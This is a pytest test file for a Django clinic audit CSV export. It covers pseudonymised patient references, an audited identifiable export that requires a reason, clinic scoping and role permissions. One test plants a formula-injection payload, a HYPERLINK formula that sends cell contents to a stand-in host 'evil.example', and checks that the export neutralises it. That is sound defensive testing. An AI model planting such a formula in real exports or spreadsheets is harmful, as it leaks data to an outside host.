"""The clinic audit CSV: columns, pseudonyms, the identifiable option, formula injection,
clinic scope, permissions and the audit entry of every export."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from planner import export
from planner.models import (
    AdverseEvent,
    AuditEntry,
    ClinicExport,
    FollowUp,
    WarningAcknowledgement,
)
from tests.factories import PatientFactory, PlannedInjectionFactory, TreatmentPlanFactory
from tests.followup_support import make_scar_plan, perform

pytestmark = pytest.mark.django_db

URL = reverse("export_audit_csv")


@pytest.fixture
def performed(plan, surgeon):
    plan = perform(make_scar_plan(plan), surgeon)
    follow_up = plan.follow_ups.order_by("due_on").first()
    FollowUp.objects.filter(pk=follow_up.pk).update(
        status="done",
        visited_on=timezone.localdate(),
        gais_surgeon=2,
        gais_patient=1,
        satisfaction=5,
        vss_vascularity=1,
        vss_pigmentation=0,
        vss_pliability=2,
        vss_height=1,
        vss_version="vss_1990",
        faceq_scale="Satisfaction with Skin",
        faceq_total=72,
    )
    AdverseEvent.objects.create(
        follow_up=follow_up, kind="bruising", severity="mild", resolved_on=timezone.localdate()
    )
    return plan


def read(response) -> list[dict]:
    assert response.status_code == 200, response.content.decode()[:2000]
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_has_the_documented_columns_and_records(admin_role_client, performed):
    rows = read(admin_role_client.get(URL))
    header = list(rows[0])
    assert header == export.columns(identifiable=False)
    for column in [
        "patient_ref",
        "plan_id",
        "zone",
        "volume_ml",
        "instrument",
        "gauge",
        "depth",
        "technique",
        "rule",
        "severity",
        "acknowledged_reason",
        "adverse_event",
        "gais_surgeon",
        "posas_patient_total",
        "vss_total",
        "vss_version",
        "faceq_total_licensed",
    ]:
        assert column in header
    records = {row["record"] for row in rows}
    assert {"plan", "performed_injection", "follow_up", "adverse_event"} <= records
    injections = [r for r in rows if r["record"] == "performed_injection"]
    assert sorted(r["zone"] for r in injections) == ["CHEEK_L", "UPPER_LIP"]
    assert {r["volume_ml"] for r in injections} == {"0.3", "0.2"}
    assert {r["instrument"] for r in injections} == {"needle"}
    seen = next(r for r in rows if r["record"] == "follow_up" and r["visited_on"])
    assert (seen["gais_surgeon"], seen["vss_total"], seen["faceq_total_licensed"]) == (
        "2",
        "4",
        "72",
    )
    event = next(r for r in rows if r["record"] == "adverse_event")
    assert (event["adverse_event"], event["adverse_event_severity"]) == ("bruising", "mild")


def test_findings_and_acknowledged_warnings_are_exported(admin_role_client, patient, surgeon):
    draft = TreatmentPlanFactory(patient=patient, surgeon=surgeon, indications=["hair_regrowth"])
    PlannedInjectionFactory(plan=draft, zone_code="CHEEK_L", technique="bolus")
    WarningAcknowledgement.objects.create(
        plan=draft,
        finding_key="k",
        rule="TECHNIQUE_NOT_RETROGRADE",
        message="Bolus technique",
        reason="Tiny bolus for a pitted scar",
        acknowledged_by=surgeon,
    )
    rows = read(admin_role_client.get(URL))
    findings = {
        r["rule"] for r in rows if r["record"] == "finding" and r["plan_id"] == str(draft.pk)
    }
    assert "TECHNIQUE_NOT_RETROGRADE" in findings
    assert "INDICATION_NOT_DOCUMENTED" in findings
    ack = next(r for r in rows if r["record"] == "acknowledged_warning")
    assert ack["acknowledged_reason"] == "Tiny bolus for a pitted scar"
    planned = [r for r in rows if r["record"] == "injection" and r["plan_id"] == str(draft.pk)]
    assert planned[0]["technique"] == "bolus"


def test_patients_are_pseudonymised_by_default(admin_role_client, performed):
    response = admin_role_client.get(URL)
    text = response.content.decode("utf-8-sig")
    assert "Alice Example" not in text
    assert "A-0001" not in text
    assert "patient_name" not in text
    assert "chart_number" not in text
    refs = {row["patient_ref"] for row in read(response)}
    assert refs == {export.pseudonym(performed.patient_id)}
    assert refs.pop().startswith("P-")


def test_the_pseudonym_is_stable_and_keyed(performed, settings):
    first = export.pseudonym(performed.patient_id)
    assert first == export.pseudonym(performed.patient_id)
    assert first != export.pseudonym(performed.patient_id + 1)
    assert len(first) == 14  # "P-" and 12 hex digits
    settings.SECRET_KEY = "another-secret-key-another-secret-key-0123456789"
    assert export.pseudonym(performed.patient_id) != first


def test_the_same_patient_has_the_same_pseudonym_in_two_exports(admin_role_client, performed):
    one = {r["patient_ref"] for r in read(admin_role_client.get(URL))}
    two = {r["patient_ref"] for r in read(admin_role_client.post(URL, {}))}
    assert one == two


def test_an_identifiable_export_needs_the_box_and_a_reason_and_is_audited(
    admin_role_client, performed
):
    refused = admin_role_client.post(URL, {"identifiable": "on"})
    assert refused.status_code == 422
    assert "Say why this export needs patient names" in refused.content.decode()
    assert not ClinicExport.objects.exists()
    response = admin_role_client.post(
        URL, {"identifiable": "on", "reason": "Complication review with the patient's GP"}
    )
    rows = read(response)
    assert list(rows[0])[:3] == ["patient_ref", "patient_name", "chart_number"]
    assert {r["patient_name"] for r in rows} == {"Alice Example"}
    assert {r["chart_number"] for r in rows} == {"A-0001"}
    record = ClinicExport.objects.get()
    assert record.identifiable
    assert record.reason.startswith("Complication review")
    entry = AuditEntry.objects.get(object_type="clinicexport")
    assert entry.action == "create"
    assert entry.changes["identifiable"] is True
    assert entry.changes["rows"] == len(rows)


def test_a_get_never_gives_names_even_when_asked(admin_role_client, performed):
    text = admin_role_client.get(URL, {"identifiable": "on", "reason": "x"}).content.decode()
    assert "Alice Example" not in text


def test_every_export_is_audited(admin_role_client, performed):
    admin_role_client.get(URL)
    admin_role_client.get(URL)
    entries = AuditEntry.objects.filter(object_type="clinicexport")
    assert entries.count() == 2
    assert {e.changes["identifiable"] for e in entries} == {False}
    assert ClinicExport.objects.filter(identifiable=False).count() == 2


def test_cells_that_a_spreadsheet_would_run_are_neutralised(admin_role_client, patient, surgeon):
    draft = TreatmentPlanFactory(patient=patient, surgeon=surgeon)
    PlannedInjectionFactory(plan=draft, technique="bolus")
    WarningAcknowledgement.objects.create(
        plan=draft,
        finding_key="k",
        rule="TECHNIQUE_NOT_RETROGRADE",
        message="@SUM(1+1)",
        reason='=HYPERLINK("http://evil.example/?"&A1,"click")',
        acknowledged_by=surgeon,
    )
    rows = read(admin_role_client.get(URL))
    ack = next(r for r in rows if r["record"] == "acknowledged_warning")
    assert ack["acknowledged_reason"].startswith("'=HYPERLINK")
    assert ack["message"] == "'@SUM(1+1)"
    for value in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert export.safe_cell(value).startswith("'")
    assert export.safe_cell("0.3") == "0.3"


def test_the_export_is_limited_to_the_admins_clinic(admin_role_client, performed, other_clinic):
    stranger = PatientFactory(clinic=other_clinic, name="Bob Stranger", chart_number="B-9")
    other_plan = TreatmentPlanFactory(patient=stranger)
    rows = read(admin_role_client.post(URL, {"identifiable": "on", "reason": "audit"}))
    assert str(other_plan.pk) not in {r["plan_id"] for r in rows}
    assert "Bob Stranger" not in {r["patient_name"] for r in rows}


def test_the_date_range_filters_sessions(admin_role_client, performed):
    later = performed.planned_for.replace(year=performed.planned_for.year + 1)
    rows = read(admin_role_client.post(URL, {"date_from": later.isoformat()}))
    assert rows == []
    bad = admin_role_client.post(URL, {"date_from": "2026-05-01", "date_to": "2026-04-01"})
    assert bad.status_code == 422


@pytest.mark.parametrize("who", ["surgeon_client", "colleague_client", "outsider_client"])
def test_only_clinic_admins_export(request, who, performed):
    client = request.getfixturevalue(who)
    assert client.get(URL).status_code == 403
    assert client.get(reverse("export_page")).status_code == 403
    assert not ClinicExport.objects.exists()


def test_anonymous_users_are_sent_to_login(performed):
    response = Client().get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_export_page_explains_and_offers_the_form(admin_role_client):
    page = admin_role_client.get(reverse("export_page")).content.decode()
    assert "stable pseudonym" in page
    assert 'name="identifiable"' in page
    assert 'name="reason"' in page
